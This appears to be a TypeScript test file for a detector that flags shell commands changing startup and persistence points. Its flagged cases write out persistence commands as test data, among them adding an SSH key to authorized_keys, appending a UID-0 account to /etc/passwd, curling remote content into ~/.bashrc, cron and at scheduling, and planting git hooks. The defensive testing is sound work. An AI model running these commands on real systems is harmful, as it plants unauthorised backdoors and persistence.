import { changeStartUp } from "../../src/detectors/change-start-up.ts";
import { testDetector } from "../support/detector-tester.ts";

testDetector(changeStartUp, {
  clean: [
    "cat ~/.bashrc",
    "grep alias ~/.bashrc",
    "cp ~/.bashrc /tmp/bashrc",
    "echo 'alias x=y' >> bashrc",
    "cat ~/.ssh/authorized_keys",
    "crontab -l",
    "atq",
    "ls .git/hooks",
    "cat .git/hooks/pre-commit.sample",
    "printf x > .git/hooks/pre-commit.sample",
    "printf x > hooks/pre-commit",
    "echo '>> ~/.bashrc'",
    { run: "source ~/.bashrc", files: { "/home/dev/.bashrc": "alias ll='ls -l'\n" } },
    "echo '* * * * * ls' > jobs.txt",
  ],
  flagged: [
    {
      run: "echo 'alias ll=\"ls -l\"' >> ~/.bashrc",
      findings: [{ messageId: "appended", at: ">> ~/.bashrc" }],
    },
    { run: "echo 'export A=1' >> ~/.profile", findings: ["appended"] },
    {
      run: "sed -i 's/a/b/' ~/.zshrc",
      files: { "/home/dev/.zshrc": "a\n" },
      findings: ["appended"],
    },
    { run: "echo 'alias ll=\"ls -l\"' > ~/.bashrc", findings: ["written"] },
    { run: "echo 'ssh-ed25519 AAAA dev' >> ~/.ssh/authorized_keys", findings: ["written"] },
    { run: "echo x >> /etc/pam.d/sshd", findings: ["written"] },
    { run: "echo '* * * * * root ls' >> /etc/crontab", findings: ["written"] },
    { run: "echo 'root2:x:0:0::/:/bin/sh' | tee -a /etc/passwd", findings: ["written"] },
    { run: "curl -s https://example.test/rc >> ~/.bashrc", findings: ["unseen"] },
    { run: "cp rc ~/.bashrc", findings: ["unseen"] },
    { run: "cat key.pub >> ~/.ssh/authorized_keys", findings: ["unseen"] },
    { run: "mv rc ~/.profile", findings: ["unseen"] },
    { run: "echo '* * * * * ls' | crontab -", findings: ["scheduled"] },
    { run: "crontab jobs.txt", findings: ["scheduled"] },
    { run: "echo ls | at now + 1 hour", findings: ["once"] },
    { run: "at -f job.sh midnight", findings: ["once"] },
    { run: "printf 'x' > .git/hooks/pre-commit", findings: ["hook"] },
    { run: "cp tool .git/hooks/post-checkout", findings: ["hook"] },
    {
      run: "ln -s ../../tool .git/hooks/pre-push",
      findings: [{ messageId: "hook", at: "../../tool" }],
    },
  ],
});
